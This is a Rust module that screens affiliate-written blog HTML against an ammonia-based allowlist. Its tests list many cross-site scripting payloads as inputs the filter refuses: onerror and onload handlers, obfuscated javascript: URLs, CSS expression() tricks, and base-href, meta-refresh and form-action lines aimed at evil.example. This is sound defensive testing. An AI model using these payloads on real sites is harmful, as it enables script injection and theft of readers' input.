//! Screening of affiliate-written HTML (blog content): the seed's "validated to disallow
//! inline JavaScript", and more. An allowlist, not a denylist: content may hold only the
//! elements, attributes and URL schemes of rich text (headings, paragraphs, lists, links,
//! images, tables, code, quotes, emphasis), because much that is not script still lets an
//! author act on the reader's page: `<base href>` re-points every relative link, `<meta
//! http-equiv=refresh>` redirects, `<form action>` posts the reader's input elsewhere,
//! `<link rel=stylesheet>` and CSS `@import` restyle the whole page.
//!
//! The allowlist is [`ammonia`]'s (its default rich-text elements and attributes, narrowed to
//! `http`, `https` and `mailto` URLs), and the rule is: the content is accepted only when
//! ammonia's cleaning would leave it as it is. Both the content and ammonia's output are read
//! with html5ever (through `scraper`), the same HTML5 algorithm browsers run, and compared
//! node by node, so what is judged is what a browser would build: entities decoded
//! (`&#106;avascript:`), names lowercased (`<ScRiPt>`, `ONLOAD=`), SVG and MathML placed, and
//! text that merely looks like markup left as text. Beyond ammonia, inline `style` may not
//! load anything or run anything (`@import`, `url(`, `expression(`, `behavior:`, ...), link
//! `rel` and `target` are limited to values that cannot hand the reader's tab to another
//! page, and the content read as a whole document may not set attributes on `<html>` or
//! `<body>` or hold a frameset (a fragment parse drops those tags; a browser applies them).
//!
//! The content is stored as sent, never rewritten: it is accepted whole or refused whole.

use ammonia::Builder;
use scraper::{Html, Node};
use std::collections::{HashMap, HashSet};
use std::sync::OnceLock;

/// Whether `html` must be refused: anything outside the allowlist (see the module
/// documentation), script being the first of them. The name is the seed's concern.
pub fn contains_script(html: &str) -> bool {
    if refused(html) {
        return true;
    }
    // A tag left open at the end is dropped by the parser but completed by a browser when
    // the content is placed before other markup: judge the content as if it were closed.
    if html.rfind('<').is_some_and(|lt| !html[lt..].contains('>')) {
        return ["\">", "'>", ">"].iter().any(|end| refused(&format!("{html}{end}")));
    }
    false
}

/// Elements that never have children, so they do not nest.
const VOID: [&str; 14] = ["area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "param", "source", "track", "wbr"];

/// An upper estimate of how deeply elements nest, from a cheap scan of the tags (no parse).
/// Parsing is quadratic in the depth, so content nesting deeper than a page ever does is
/// refused before it is parsed.
pub fn nesting_depth(html: &str) -> usize {
    let bytes = html.as_bytes();
    let (mut depth, mut max, mut i) = (0usize, 0usize, 0usize);
    while let Some(off) = bytes[i..].iter().position(|b| *b == b'<') {
        i += off + 1;
        match bytes.get(i) {
            Some(b'/') => depth = depth.saturating_sub(1),
            Some(c) if c.is_ascii_alphabetic() => {
                let name: String = bytes[i..].iter().take_while(|b| b.is_ascii_alphanumeric()).map(|b| b.to_ascii_lowercase() as char).collect();
                let end = bytes[i..].iter().position(|b| *b == b'>').map(|p| i + p);
                let self_closing = end.is_some_and(|e| e > 0 && bytes[e - 1] == b'/');
                if !VOID.contains(&name.as_str()) && !self_closing {
                    depth += 1;
                    max = max.max(depth);
                }
            }
            _ => {}
        }
    }
    max
}

/// Elements of rich text: ammonia's defaults without image maps (`map`, `area`), plus
/// `tfoot`, `section` and `main`.
const ELEMENTS: [&str; 76] = [
    "a", "abbr", "acronym", "article", "aside", "b", "bdi", "bdo", "blockquote", "br", "caption", "center", "cite", "code", "col",
    "colgroup", "data", "dd", "del", "details", "dfn", "div", "dl", "dt", "em", "figcaption", "figure", "footer", "h1", "h2",
    "h3", "h4", "h5", "h6", "header", "hgroup", "hr", "i", "img", "ins", "kbd", "li", "mark", "nav", "ol", "p", "pre", "q",
    "rp", "rt", "rtc", "ruby", "s", "samp", "section", "small", "span", "strike", "strong", "sub", "summary", "sup", "table",
    "tbody", "td", "tfoot", "th", "thead", "time", "tr", "tt", "u", "ul", "var", "wbr", "main",
];

/// Attributes allowed on every element. `style` is screened by [`css_is_inert`].
const GLOBAL_ATTRIBUTES: [&str; 6] = ["class", "dir", "id", "lang", "style", "title"];

/// Attributes allowed on some elements (ammonia's defaults, plus link `rel`/`target`,
/// `details open`, `time`/`data` values, list numbering, lazy images and the table layout
/// attributes of older editors).
const ELEMENT_ATTRIBUTES: [(&str, &[&str]); 21] = [
    ("a", &["href", "hreflang", "rel", "target"]),
    ("bdo", &["dir"]),
    ("blockquote", &["cite"]),
    ("col", &["align", "char", "charoff", "span"]),
    ("colgroup", &["align", "char", "charoff", "span"]),
    ("data", &["value"]),
    ("del", &["cite", "datetime"]),
    ("details", &["open"]),
    ("hr", &["align", "size", "width"]),
    ("img", &["align", "alt", "decoding", "height", "loading", "src", "width"]),
    ("ins", &["cite", "datetime"]),
    ("ol", &["start", "reversed", "type"]),
    ("q", &["cite"]),
    ("table", &["align", "border", "cellpadding", "cellspacing", "char", "charoff", "summary", "width"]),
    ("tbody", &["align", "char", "charoff"]),
    ("td", &["align", "char", "charoff", "colspan", "headers", "height", "rowspan", "valign", "width"]),
    ("tfoot", &["align", "char", "charoff"]),
    ("th", &["align", "char", "charoff", "colspan", "headers", "height", "rowspan", "scope", "valign", "width"]),
    ("thead", &["align", "char", "charoff"]),
    ("time", &["datetime"]),
    ("tr", &["align", "char", "charoff"]),
];

/// URL schemes a link or image may use; relative URLs are allowed (they stay on the page's
/// own site).
const URL_SCHEMES: [&str; 3] = ["http", "https", "mailto"];

/// Link types that only describe a link (`opener`, which hands the reader's tab to the
/// linked page, is not one of them).
const LINK_TYPES: [&str; 13] =
    ["nofollow", "noopener", "noreferrer", "sponsored", "ugc", "external", "author", "bookmark", "help", "license", "tag", "next", "prev"];

fn sanitizer() -> &'static Builder<'static> {
    static BUILDER: OnceLock<Builder<'static>> = OnceLock::new();
    BUILDER.get_or_init(|| {
        let mut b = Builder::default();
        let attributes: HashMap<&str, HashSet<&str>> = ELEMENT_ATTRIBUTES.iter().map(|(e, a)| (*e, a.iter().copied().collect())).collect();
        b.tags(ELEMENTS.into_iter().collect())
            .generic_attributes(GLOBAL_ATTRIBUTES.into_iter().collect())
            .tag_attributes(attributes)
            .url_schemes(URL_SCHEMES.into_iter().collect())
            // Nothing is added: the content is compared with the cleaning, not replaced by it.
            .link_rel(None)
            .attribute_filter(|_element, attribute, value| attribute_is_inert(attribute, value).then_some(value.into()));
        b
    })
}

/// The checks ammonia leaves to its caller: what a kept attribute's value may be.
fn attribute_is_inert(attribute: &str, value: &str) -> bool {
    match attribute {
        "style" => css_is_inert(value),
        // ammonia checks the scheme of `href` and `src`; `cite` is a URL too.
        "href" | "src" | "cite" => url_is_allowed(value),
        "rel" => value.split_ascii_whitespace().all(|t| LINK_TYPES.contains(&t.to_ascii_lowercase().as_str())),
        "target" => ["_blank", "_self"].contains(&value.trim().to_ascii_lowercase().as_str()),
        _ => true,
    }
}

/// A URL with no scheme (relative) or one of [`URL_SCHEMES`], judged as browsers read it:
/// ASCII white space and controls dropped (`java\tscript:`), case ignored.
fn url_is_allowed(value: &str) -> bool {
    let url = squeeze(value);
    let scheme_end = url.find(|c: char| !(c.is_ascii_alphanumeric() || "+-.".contains(c)));
    match scheme_end {
        Some(i) if i > 0 && url[i..].starts_with(':') && url.starts_with(|c: char| c.is_ascii_alphabetic()) => URL_SCHEMES.contains(&&url[..i]),
        _ => true,
    }
}

/// Whether the content, or what a browser makes of it, holds anything outside the allowlist.
fn refused(html: &str) -> bool {
    let before = shape(&Html::parse_fragment(html));
    let cleaned = sanitizer().clean(html).to_string();
    let after = shape(&Html::parse_fragment(&cleaned));
    before != after || page_attributes(&Html::parse_document(html))
}

/// One step of a walk through a parsed tree.
#[derive(Debug, PartialEq, Eq)]
enum Step {
    Open { name: String, attributes: Vec<(String, String)> },
    Close,
    Text(String),
}

/// The tree as a sequence of steps, in document order, with what a reader sees of it:
/// comments left out (the cleaning strips them; they are never shown), adjacent texts joined,
/// and the newline that a parser drops after `<pre>` dropped (the serializer does not write
/// it back).
fn shape(document: &Html) -> Vec<Step> {
    let mut steps = Vec::new();
    // Depth first without recursion (content may nest deeply): (node, closing it).
    let mut stack = vec![(document.tree.root(), false)];
    while let Some((node, closing)) = stack.pop() {
        if closing {
            steps.push(Step::Close);
            continue;
        }
        match node.value() {
            Node::Element(element) => {
                let mut attributes: Vec<(String, String)> =
                    element.attrs.iter().map(|(name, value)| (format!("{}|{}", name.ns, name.local), value.to_string())).collect();
                attributes.sort();
                steps.push(Step::Open { name: format!("{}|{}", element.name.ns, element.name.local), attributes });
                stack.push((node, true));
            }
            Node::Text(text) => {
                let first_in_pre = node.prev_sibling().is_none()
                    && node.parent().and_then(|p| p.value().as_element().map(|e| e.name() == "pre")).unwrap_or(false);
                let text: &str = text;
                let text = if first_in_pre { text.strip_prefix('\n').unwrap_or(text) } else { text };
                match steps.last_mut() {
                    Some(Step::Text(last)) => last.push_str(text),
                    _ if text.is_empty() => {}
                    _ => steps.push(Step::Text(text.to_string())),
                }
                continue;
            }
            Node::Document | Node::Fragment => {}
            _ => continue,
        }
        stack.extend(node.children().rev().map(|child| (child, false)));
    }
    steps
}

/// Attributes on `<html>`, `<head>` or `<body>`, or a frameset, in the content read as a
/// whole document: a fragment parse drops these tags, a browser applies them to the page.
fn page_attributes(document: &Html) -> bool {
    document.tree.nodes().any(|node| match node.value() {
        Node::Element(e) => match e.name() {
            "html" | "head" | "body" => e.attrs().next().is_some(),
            "frameset" | "frame" => true,
            _ => false,
        },
        _ => false,
    })
}

/// The value with ASCII white space and control characters removed, lowercased: browsers
/// drop tabs and newlines anywhere in a URL and spaces and controls around it, so
/// `java\tscript:` and `  javascript:` are both `javascript:` to them.
fn squeeze(value: &str) -> String {
    value.chars().filter(|c| !c.is_ascii_whitespace() && !c.is_ascii_control()).flat_map(char::to_lowercase).collect()
}

/// CSS that neither runs nor loads anything: no IE `expression(...)`, no
/// `behavior:`/`-moz-binding` components, no script URL, no `@import`, no `url(` or other
/// image function (each loads from anywhere), after removing comments and escapes
/// (`expr/**/ession(`, `\65xpression(`, `u\72l(`).
fn css_is_inert(css: &str) -> bool {
    let css = squeeze(&unescape_css(&strip_css_comments(css)));
    ![
        "expression(", "javascript:", "vbscript:", "behavior:", "-moz-binding", "@import", "url(", "image(", "image-set(", "element(",
        "src(",
    ]
    .iter()
    .any(|bad| css.contains(bad))
}

fn strip_css_comments(css: &str) -> String {
    let mut out = String::with_capacity(css.len());
    let mut rest = css;
    while let Some(start) = rest.find("/*") {
        out.push_str(&rest[..start]);
        rest = match rest[start + 2..].find("*/") {
            Some(end) => &rest[start + 2 + end + 2..],
            None => "",
        };
    }
    out.push_str(rest);
    out
}

/// Decodes CSS escapes: `\` and one to six hex digits (plus one optional white space), or
/// `\` and any other character, which stands for itself.
fn unescape_css(css: &str) -> String {
    let mut out = String::with_capacity(css.len());
    let mut chars = css.chars().peekable();
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        let mut hex = String::new();
        while hex.len() < 6 {
            match chars.peek() {
                Some(h) if h.is_ascii_hexdigit() => {
                    hex.push(*h);
                    chars.next();
                }
                _ => break,
            }
        }
        if hex.is_empty() {
            if let Some(next) = chars.next() {
                out.push(next);
            }
        } else {
            if chars.peek().is_some_and(|w| w.is_ascii_whitespace()) {
                chars.next();
            }
            let code = u32::from_str_radix(&hex, 16).unwrap_or(0xFFFD);
            out.push(char::from_u32(code).unwrap_or('\u{FFFD}'));
        }
    }
    out
}

#[cfg(test)]
mod tests {
    #[test]
    fn unclosed_tags_are_judged_as_closed_and_nesting_is_estimated() {
        for bad in ["<p>Hi</p><img src=x onerror=alert(1)// ", "<svg/onload=alert(1)", "<a href=\"javascript:alert(1)\"", "<script"] {
            assert!(super::contains_script(bad), "{bad}");
        }
        assert!(!super::contains_script("<p>1 < 2 and 3 > 2</p>"));
        assert_eq!(super::nesting_depth("<div><p>a<br>b<img src=x/></p></div><p>c</p>"), 2);
        assert_eq!(super::nesting_depth(&"<div>".repeat(500)), 500);
    }

    use super::contains_script;

    #[test]
    fn plain_rich_text_is_accepted() {
        for html in [
            "<p>Latest platform news...</p>",
            "Just text, with a colon: javascript: is a word here.",
            r#"<p>See <a href="https://example.com/a?b=c&amp;d=e" title="docs">the docs</a> and <strong>this</strong>.</p>"#,
            r#"<img src="https://cdn.example.com/x.png" alt="chart" width="200"><img src="/relative/y.jpg">"#,
            "<ul><li>one</li><li><em>two</em></li></ul><ol><li>three</li></ol><blockquote>q</blockquote>",
            r#"<p style="color: red; font-weight: bold">styled</p><h2 id="x" class="y">Heading</h2>"#,
            "<pre><code>&lt;script&gt;alert(1)&lt;/script&gt;</code></pre>",
            r##"<a href="mailto:me@example.com">mail</a> <a href="#top">top</a>"##,
            "<table><tr><td>cell</td></tr></table><details open><summary>s</summary>d</details>",
            "",
        ] {
            assert!(!contains_script(html), "{html}");
        }
    }

    #[test]
    fn script_elements_are_refused_in_any_case_and_namespace() {
        for html in [
            "<script>alert(1)</script>",
            "<ScRiPt>alert(1)</sCrIpT>",
            "<p>hi<script src=https://evil.example/x.js></script></p>",
            "<svg><script>alert(1)</script></svg>",
            "<template><script>alert(1)</script></template>",
        ] {
            assert!(contains_script(html), "{html}");
        }
    }

    #[test]
    fn event_handlers_are_refused() {
        for html in [
            "<img src=x onerror=alert(1)>",
            "<svg onload=alert(1)>",
            "<p onclick=\"alert(1)\">x</p>",
            "<body ONLOAD=alert(1)>",
            "<p>x</p><body onpageshow=alert(1)>",
            "<html onload=alert(1)>",
            "<div OnMouseOver='x()'>x</div>",
            "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
            "<math><mi xlink:onclick=alert(1)>x</mi></math>",
        ] {
            assert!(contains_script(html), "{html}");
        }
    }

    #[test]
    fn script_urls_are_refused_through_every_obfuscation() {
        for html in [
            r#"<a href="javascript:alert(1)">x</a>"#,
            r#"<a href="JaVaScRiPt:alert(1)">x</a>"#,
            r#"<a href="&#106;avascript:alert(1)">x</a>"#,
            r#"<a href="&#x6A;avascript:alert(1)">x</a>"#,
            r#"<a href="&#0000106avascript:alert(1)">x</a>"#,
            r#"<a href="java&#x09;script:alert(1)">x</a>"#,
            "<a href=\"java\nscript:alert(1)\">x</a>",
            "<a href=\"java\tscript:alert(1)\">x</a>",
            r#"<a href="   javascript:alert(1)">x</a>"#,
            r#"<a href="&#x20;javascript:alert(1)">x</a>"#,
            r#"<a href="javascript&colon;alert(1)">x</a>"#,
            r#"<a href="vbscript:msgbox(1)">x</a>"#,
            r#"<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>"#,
            r#"<a href="DATA:text/html,<script>alert(1)</script>">x</a>"#,
            r#"<img src="data:image/svg+xml,<svg onload=alert(1)>">"#,
            r#"<form action="javascript:alert(1)"><button>go</button></form>"#,
            r#"<button formaction="javascript:alert(1)">go</button>"#,
            r#"<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>"#,
            r#"<video poster="javascript:alert(1)"></video>"#,
            r#"<table background="javascript:alert(1)"></table>"#,
            r#"<img srcset="https://a.example/x.png 1x, javascript:alert(1) 2x">"#,
            r#"<svg><set attributeName="href" to="javascript:alert(1)"/></svg>"#,
            r#"<svg><animate attributeName="href" values="https://a.example;javascript:alert(1)"/></svg>"#,
            r#"<meta http-equiv="refresh" content="0;url=javascript:alert(1)">"#,
        ] {
            assert!(contains_script(html), "{html}");
        }
    }

    #[test]
    fn embedding_elements_and_srcdoc_are_refused() {
        for html in [
            "<iframe src=https://example.com></iframe>",
            "<object data=x.swf></object>",
            "<embed src=x.swf>",
            "<frameset><frame src=x></frameset>",
            "<applet code=x></applet>",
            r#"<div srcdoc="<p>x</p>"></div>"#,
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        ] {
            assert!(contains_script(html), "{html}");
        }
    }

    #[test]
    fn script_in_css_is_refused() {
        for html in [
            r#"<p style="width: expression(alert(1))">x</p>"#,
            r#"<p style="width: EXPRESSION (alert(1))">x</p>"#,
            r#"<p style="width: expr/**/ession(alert(1))">x</p>"#,
            r#"<p style="width: \65xpression(alert(1))">x</p>"#,
            r#"<p style="background: url('javascript:alert(1)')">x</p>"#,
            r#"<p style="background: url(java&#x09;script:alert(1))">x</p>"#,
            r#"<p style="behavior: url(x.htc)">x</p>"#,
            "<style>p { -moz-binding: url(x.xml#xss) }</style>",
            "<style>p { width: expression(alert(1)) }</style>",
        ] {
            assert!(contains_script(html), "{html}");
        }
    }

    #[test]
    fn what_redirects_or_restyles_the_page_is_refused() {
        for html in [
            r#"<base href="https://evil.example/">"#,
            r#"<p>Hi</p><base href="https://evil.example/"><a href="/x">x</a>"#,
            r#"<meta http-equiv="refresh" content="0;url=https://evil.example/">"#,
            r#"<META HTTP-EQUIV=REFRESH CONTENT="0; URL=https://evil.example/">"#,
            r#"<form action="https://evil.example/collect" method="post"><input name="card"><button>Pay</button></form>"#,
            r#"<link rel="stylesheet" href="https://evil.example/x.css">"#,
            r#"<style>@import url("https://evil.example/x.css");</style>"#,
            r#"<style>body { display: none }</style>"#,
            r#"<p style="@import 'https://evil.example/x.css'">x</p>"#,
            r#"<p style="background: url(https://evil.example/track.png)">x</p>"#,
            r#"<p style="background: u\72l(https://evil.example/track.png)">x</p>"#,
            r#"<p style="background: image-set('https://evil.example/x.png' 1x)">x</p>"#,
            r#"<img src="data:image/png;base64,iVBORw0KGgo=">"#,
            r#"<a href="data:text/plain,hi">x</a>"#,
            r#"<a href="ftp://example.com/x">x</a>"#,
            r#"<a href="https://example.com" target="_top">x</a>"#,
            r#"<a href="https://example.com" target="_blank" rel="opener">x</a>"#,
            r#"<blockquote cite="javascript:alert(1)">q</blockquote>"#,
            r#"<input type="text" value="x">"#,
            r#"<button>go</button>"#,
            r#"<textarea>x</textarea>"#,
            r#"<select><option>x</option></select>"#,
            r#"<video src="https://example.com/x.mp4"></video>"#,
            r#"<audio src="https://example.com/x.mp3"></audio>"#,
            r#"<svg><circle r="5"/></svg>"#,
            r#"<math><mi>x</mi></math>"#,
            r#"<marquee>x</marquee>"#,
            r#"<x-widget>x</x-widget>"#,
            r#"<title>x</title>"#,
            r#"<p data-track="1">x</p>"#,
            r#"<img src="https://example.com/x.png" srcset="https://evil.example/y.png 2x">"#,
            r#"<a href="https://example.com" ping="https://evil.example/ping">x</a>"#,
            r#"<html manifest="https://evil.example/m"><p>x</p>"#,
            r#"<body background="https://evil.example/bg.png"><p>x</p>"#,
            r#"<head><base href="https://evil.example/"></head><p>x</p>"#,
            r#"<frameset><frame src="https://evil.example/"></frameset>"#,
        ] {
            assert!(contains_script(html), "{html}");
        }
    }

    #[test]
    fn rich_text_that_a_cleaning_would_keep_is_accepted() {
        for html in [
            "<h1>A</h1><h2>B</h2><h3>C</h3><h4>D</h4><h5>E</h5><h6>F</h6>",
            r#"<p>Text &amp; more&nbsp;text, &lt;not a tag&gt;, "quotes" and 'apostrophes'.</p>"#,
            "<ul><li>one<ul><li>nested</li></ul></li></ul><ol start=\"3\" reversed><li>three</li></ol><dl><dt>t</dt><dd>d</dd></dl>",
            r##"<a href="https://example.com/a?b=1&amp;c=2#frag" title="t" rel="nofollow sponsored" target="_blank">link</a>"##,
            r##"<a href="http://example.com">http</a> <a href="mailto:me@example.com">mail</a> <a href="/relative">rel</a> <a href="#top">top</a>"##,
            r#"<img src="https://cdn.example.com/x.png" alt="chart" width="200" height="100" loading="lazy"> <img src="//cdn.example.com/y.png">"#,
            r#"<table border="1" cellpadding="4" width="100%"><tr><td valign="top" width="50%">a</td><th height="20">b</th></tr></table>"#,
            "<table><caption>c</caption><thead><tr><th scope=\"col\">h</th></tr></thead><tbody><tr><td colspan=\"2\">d</td></tr></tbody><tfoot><tr><td>f</td></tr></tfoot></table>",
            "<table>\n  <tr>\n    <td>cell</td>\n  </tr>\n</table>",
            "<pre><code>fn main() {\n    println!(\"&lt;hi&gt;\");\n}</code></pre>",
            "<pre>\n\nstarts with a blank line</pre>",
            "<pre>\nstarts with a newline</pre>",
            "<blockquote cite=\"https://example.com/q\"><p>quoted</p></blockquote><q>inline</q>",
            "<p><em>em</em> <strong>strong</strong> <b>b</b> <i>i</i> <u>u</u> <s>s</s> <mark>m</mark> <small>s</small> <sub>1</sub><sup>2</sup> <code>c</code> <kbd>k</kbd> <abbr title=\"x\">x</abbr></p>",
            "<p>one<br>two</p><hr><div class=\"note\" id=\"n1\" lang=\"en\" dir=\"ltr\"><span>s</span></div>",
            "<p>before<!-- a comment -->after</p>",
            "<figure><img src=\"https://example.com/x.png\" alt=\"x\"><figcaption>cap</figcaption></figure>",
            "<p style=\"color: #333; text-align: center; font-weight: bold\">styled</p>",
            "<details open><summary>s</summary>d</details><time datetime=\"2024-06-07\">June</time>",
            "Just text, with a colon: javascript: and data: are words here; 1 < 2 and 3 > 2.",
            "<p>unicode: caf\u{e9} \u{2603} \u{1F600}</p>",
            "",
        ] {
            assert!(!contains_script(html), "{html}");
        }
    }

    #[test]
    fn malformed_input_never_panics() {
        for html in ["<", "<<<>>>", "<a href=", "<p style=\"\\", "<p style=\"\\110000\">", "/* <style>/*</style>", "\u{0}<a\u{0}>"] {
            let _ = contains_script(html);
        }
    }
}
